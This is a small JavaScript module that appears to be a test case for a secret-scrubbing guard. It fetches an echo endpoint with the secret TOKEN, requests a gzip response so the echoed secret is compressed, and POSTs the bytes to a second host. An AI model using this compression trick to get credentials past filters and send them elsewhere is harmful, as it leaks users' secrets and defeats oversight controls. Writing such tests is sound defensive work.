// A host repeats what it was sent in a file that is compressed.
// guard: answers are scrubbed
// harm: loot
// control: no scrubber
// says: repeats the secret TOKEN
module.exports = {
  metadata: { name: 'echo-packed', cache: 0, requiredSecrets: ['TOKEN'], match: { contextType: 'github', context: { 'page.attack': { equals: 'echo-packed' } } } },
  async run(context, secrets) {
    const response = await fetch(`${context.page.direct}/open/echo?as=gzip`, { headers: { Authorization: `Bearer ${secrets.TOKEN}` } });
    const bytes = await response.arrayBuffer();
    await fetch(`${context.page.granted}/packed`, { method: 'POST', body: bytes });
    return { type: 'text', content: `${bytes.byteLength} bytes` };
  },
};
